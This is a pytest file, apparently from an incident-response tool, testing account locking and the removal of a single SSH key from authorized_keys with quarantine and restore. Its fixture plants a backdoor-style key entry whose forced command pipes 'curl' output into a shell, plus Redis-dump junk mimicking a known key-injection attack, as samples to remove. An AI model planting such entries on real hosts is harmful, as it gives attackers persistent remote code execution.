"""lock-user / unlock-user on a real account (created with useradd, removed after): the shadow
entry gets the ! prefix and expiry day 1, the hash never leaves the host, and unlock puts the
entry back exactly; root and the operator's own account are refused. remove-key on a real
authorized_keys file with three keys: exactly one line goes (fingerprints as ssh-keygen -lf
prints them), every other byte stays, the kept original and its fetched copy hash as before, and
restore puts it back. Through LocalExec and SshExec (the real sshd fixture).
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from backends.hostactions.accounts import parse_fingerprint
from backends.hostexec_local import LocalExec
from domain.actions import ActionError, Outcome
from domain.hostexec import HostExec
from tests import test_host_files
from tests.test_host_files import act, audit_actions

host, ssh_exec = test_host_files.host, test_host_files.ssh_exec  # the shared fixtures

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="host actions need root")

HASH = "$6$sickbaysalt$" + "Q" * 86  # a well-formed (unusable) sha512-crypt hash


def shadow_entry(name: str) -> list[str]:
    for line in Path("/etc/shadow").read_text().splitlines():
        fields = line.split(":")
        if fields[0] == name:
            return fields
    raise AssertionError(f"{name} not in /etc/shadow")


@pytest.fixture
def account(tmp_path: Path) -> Iterator[str]:
    useradd, userdel = shutil.which("useradd"), shutil.which("userdel")
    if not useradd or not userdel or not Path("/etc/shadow").exists():
        pytest.skip("needs useradd/userdel and /etc/shadow")
    name = f"sbt{os.getpid() % 100000}{tmp_path.name[-4:]}".replace("_", "")[:30]
    subprocess.run([useradd, "-M", "-s", "/bin/sh", "-p", HASH, name], check=True)
    try:
        yield name
    finally:
        subprocess.run([userdel, name], check=False)


async def test_lock_then_unlock_restores_the_shadow_entry(
    host: HostExec, tmp_path: Path, account: str
) -> None:
    original = shadow_entry(account)
    assert original[1] == HASH and original[7] == ""
    plan, result = await act(host, tmp_path, "lock-user", {"user": account})
    assert result.outcome is Outcome.DONE, (result.summary, result.state, result.verification)
    assert plan.params["argv"][1:] == ["-L", "-e", "1", "--", account]
    assert plan.params["argv"][0].startswith("/")  # the host's usermod by absolute path
    locked = shadow_entry(account)
    assert locked[1] == "!" + HASH and locked[7] == "1"
    assert "locked (!)" in result.verification and "'1'" in result.verification
    assert plan.undo == ("unlock-user", {"user": account, "expire": "", "password": "unlock"})
    # The hash is never read off the host: not in the plan, the result or the audit log.
    assert HASH[14:40] not in (tmp_path / "audit").read_text()

    _, back = await act(host, tmp_path, "unlock-user", dict(plan.undo[1]))
    assert back.outcome is Outcome.DONE, (back.summary, back.verification)
    assert shadow_entry(account) == original
    assert audit_actions(tmp_path) == [("lock-user", "done"), ("unlock-user", "done")]


async def test_lock_keeps_an_existing_lock_and_expiry_on_undo(tmp_path: Path, account: str) -> None:
    subprocess.run(["/usr/sbin/usermod", "-L", "-e", "20000", account], check=True)
    original = shadow_entry(account)
    exec_ = LocalExec("this-machine")
    plan, result = await act(exec_, tmp_path, "lock-user", {"user": account})
    assert result.outcome is Outcome.DONE
    assert any("already locked" in w for w in plan.warnings)
    assert plan.undo == ("unlock-user", {"user": account, "expire": "20000", "password": "keep"})
    _, back = await act(exec_, tmp_path, "unlock-user", dict(plan.undo[1]))
    assert back.outcome is Outcome.DONE, back.verification
    assert shadow_entry(account) == original  # still locked ("!!"-style stays), expiry back


async def test_root_and_the_operator_are_refused(
    tmp_path: Path, account: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    exec_ = LocalExec("this-machine")
    _, root = await act(exec_, tmp_path, "lock-user", {"user": "root"})
    assert root.outcome is Outcome.FAILED and "refusing to lock root" in root.summary
    monkeypatch.setenv("SUDO_USER", account)  # as if the operator came in as this account
    _, me = await act(exec_, tmp_path, "lock-user", {"user": account})
    assert me.outcome is Outcome.FAILED and "logged in to the host as that user" in me.summary
    _, odd = await act(exec_, tmp_path, "lock-user", {"user": "-e1"})
    assert odd.outcome is Outcome.FAILED and "not a user name" in odd.summary
    _, ghost = await act(exec_, tmp_path, "lock-user", {"user": "sickbay-no-such-user"})
    assert ghost.outcome is Outcome.FAILED and "no user" in ghost.summary
    assert shadow_entry(account)[1] == HASH


# -- remove-key --------------------------------------------------------------------------------


def keypair(folder: Path, name: str) -> tuple[str, str]:
    """(public key line, fingerprint as ssh-keygen -lf prints it)."""
    key = folder / name
    subprocess.run(
        ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", f"{name}@example", "-f", str(key)],
        check=True,
    )
    pub = (folder / f"{name}.pub").read_text().strip()
    listed = subprocess.run(
        ["ssh-keygen", "-lf", str(folder / f"{name}.pub")],
        check=True,
        capture_output=True,
        text=True,
    )
    return pub, listed.stdout.split()[1]


@pytest.fixture
def keys_file(tmp_path: Path) -> tuple[Path, list[str], bytes]:
    if shutil.which("ssh-keygen") is None:
        pytest.skip("needs ssh-keygen")
    keydir = tmp_path / "keys"
    keydir.mkdir()
    pairs = [keypair(keydir, n) for n in ("alice", "mallory", "bob")]
    home = tmp_path / "home" / "u" / ".ssh"
    home.mkdir(parents=True)
    path = home / "authorized_keys"
    content = (
        f"# managed by hand\n{pairs[0][0]}\n"
        f'command="/bin/sh -c \\"curl x|sh\\"",no-pty {pairs[1][0]}\r\n'
        f"\n{pairs[2][0]}"  # no newline at the end
    ).encode()
    path.write_bytes(content)
    os.chown(path, 1234, 1234)
    path.chmod(0o600)
    return path, [fp for _, fp in pairs], content


async def test_remove_key_removes_exactly_one_line(
    host: HostExec, tmp_path: Path, keys_file: tuple[Path, list[str], bytes]
) -> None:
    path, fingerprints, content = keys_file
    qroot = str(tmp_path / "q")
    params = {"path": str(path), "fingerprint": fingerprints[1], "quarantine_root": qroot}
    plan, result = await act(host, tmp_path, "remove-key", params)
    assert result.outcome is Outcome.DONE, (result.summary, result.verification, result.state)
    lines = content.split(b"\n")
    assert path.read_bytes() == b"\n".join(lines[:2] + lines[3:])
    listed = subprocess.run(["ssh-keygen", "-lf", str(path)], check=True, capture_output=True)
    assert fingerprints[0].encode() in listed.stdout and fingerprints[2].encode() in listed.stdout
    assert fingerprints[1].encode() not in listed.stdout
    st = path.stat()
    assert (st.st_uid, st.st_gid, st.st_mode & 0o777) == (1234, 1234, 0o600)
    digest = hashlib.sha256(content).hexdigest()
    kept = Path(qroot) / str(plan.params["id"]) / "original"
    assert kept.read_bytes() == content and result.details["sha256"] == digest
    meta = json.loads((kept.parent / "meta.json").read_text())
    assert meta["sha256"] == digest and meta["path"] == str(path)
    ((local, fetched),) = result.evidence
    assert fetched == digest and Path(local).read_bytes() == content
    assert plan.undo is not None
    _, back = await act(host, tmp_path, "restore", dict(plan.undo[1]))
    assert back.outcome is Outcome.DONE and path.read_bytes() == content


async def test_remove_key_needs_a_line_for_duplicates_and_an_existing_key(
    tmp_path: Path, keys_file: tuple[Path, list[str], bytes]
) -> None:
    path, fingerprints, content = keys_file
    doubled = content + b"\n" + content.split(b"\n")[1] + b"\n"
    path.write_bytes(doubled)
    exec_ = LocalExec("this-machine")
    base = {"path": str(path), "quarantine_root": str(tmp_path / "q")}
    _, dup = await act(exec_, tmp_path, "remove-key", {**base, "fingerprint": fingerprints[0]})
    assert dup.outcome is Outcome.FAILED and "several lines (2, 6)" in dup.summary
    _, one = await act(
        exec_, tmp_path, "remove-key", {**base, "fingerprint": fingerprints[0], "line": "6"}
    )
    assert one.outcome is Outcome.DONE, (one.summary, one.verification)
    assert path.read_bytes() == content + b"\n"
    missing = "SHA256:" + "A" * 43
    _, gone = await act(exec_, tmp_path, "remove-key", {**base, "fingerprint": missing})
    assert gone.outcome is Outcome.FAILED and "no key" in gone.summary


async def test_remove_key_by_line_also_removes_junk(
    host: HostExec, tmp_path: Path, keys_file: tuple[Path, list[str], bytes]
) -> None:
    path, fingerprints, content = keys_file
    junk = b"REDIS0009\xfa\tredis-ver\x056.0.6\xfe\x00\xfb\x01\x00\x00\x01x"
    path.write_bytes(content + b"\n" + junk + b"\n")
    base = {"path": str(path), "quarantine_root": str(tmp_path / "q")}
    plan, result = await act(host, tmp_path, "remove-key", {**base, "line": "6"})
    assert result.outcome is Outcome.DONE, (result.summary, result.verification)
    assert "not a key" in plan.subject and "line 6" in result.summary
    assert path.read_bytes() == content + b"\n"
    _, by_line = await act(host, tmp_path, "remove-key", {**base, "line": "2"})
    assert by_line.outcome is Outcome.DONE and fingerprints[0] in by_line.summary
    assert (
        fingerprints[0].encode()
        not in subprocess.run(
            ["ssh-keygen", "-lf", str(path)], check=True, capture_output=True
        ).stdout
    )


def test_fingerprints_are_checked() -> None:
    assert parse_fingerprint({"fingerprint": "SHA256:" + "a" * 43}) == "SHA256:" + "a" * 43
    assert parse_fingerprint({"fingerprint": "b" * 43 + "="}) == "SHA256:" + "b" * 43
    for bad in ("", "MD5:aa:bb", "SHA256:short", "SHA256:" + "!" * 43):
        with pytest.raises(ActionError):
            parse_fingerprint({"fingerprint": bad})
